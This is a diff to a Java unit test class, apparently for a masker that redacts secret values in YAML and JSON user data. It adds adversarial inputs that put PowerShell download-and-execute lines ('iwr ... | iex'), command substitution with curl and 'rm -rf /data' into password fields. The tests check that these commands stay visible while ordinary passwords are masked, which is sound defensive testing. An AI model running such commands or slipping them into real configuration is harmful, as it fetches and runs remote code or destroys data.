@@ -685,6 +685,7 @@ class MaskerTest {
                           - '[secret]'
                           - >-
                             [secret]
+                            [secret]
                         """);
     }
 
@@ -692,12 +693,35 @@ class MaskerTest {
     @ValueSource(
             strings = {
                 "passwords:\n  db: iwr http://e.io/x | iex\n",
-                "passwords:\n  db: |\n    hunter2xyz\n    iwr http://e.io/x | iex\n",
+                "passwords:\n- \"$(iwr http://e.io/x|iex)\"\n- \"`curl http://e.io/x`\"\n",
+                "password: rm -rf /data\nb: c\n",
+                "passwords:\n- &a;sh<x;\n",
                 "a: 1\npassword: '<powershell>iwr_http://e.io/x</powershell>'\n",
             })
     @Tag("adversary")
     void ofADocumentInUserDataNoCommandIsHidden(String text) {
         assertThat(userData(text)).isEqualTo(text);
+    }
+
+    /** At its own place, behind an anchor or a tag, each line for itself, in a document of a document. */
+    @ParameterizedTest
+    @CsvSource(
+            delimiterString = " -> ",
+            quoteCharacter = '`',
+            value = {
+                "`passwords:\n  db: &pw Sommer2024\n  app: &pw2 \"Winter2025\"\n  c: &e\n  d: *pw\n` -> `passwords:\n  db: &pw"
+                        + " [secret]\n  app: &pw2 \"[secret]\"\n  c: &e\n  d: *pw\n`",
+                "`passwords:\n- &a;sh<x;\n  Sommer2024\n` -> `passwords:\n- &a;sh<x;\n  [secret]\n`",
+                "`passwords:\n  db: |\n    Sommer2024\n    Winter=2025\n` -> `passwords:\n  db: |\n    [secret]\n    [secret]\n`",
+                "`passwords:\n  db: |\n    hunter2xyz\n    iwr http://e.io/x | iex\n` -> `passwords:\n  db: |\n    [secret]\n"
+                        + "    iwr http://e.io/x | iex\n`",
+                "`files:\n- content: |\n    {\"passwords\": {\"db\": \"Zq7hunterX9\"}}\n- b\n` -> `files:\n- content: |\n"
+                        + "    {\"passwords\": {\"db\": \"[secret]\"}}\n- b\n`",
+                "{\"a\": \"{\\\"passwords\\\":{\\\"db\\\":\\\"Zq7hunterX9\\\"}}\"} -> {\"a\": \"{\\\"passwords\\\":"
+                        + "{\\\"db\\\":\\\"[secret]\\\"}}\"}",
+            })
+    void ofADocumentInUserDataEachSecretIsHiddenWhereItStands(String text, String shown) {
+        assertThat(userData(text)).isEqualTo(shown);
     }
 
     /** What has a secret's name hides itself, and nothing else that reads alike. */
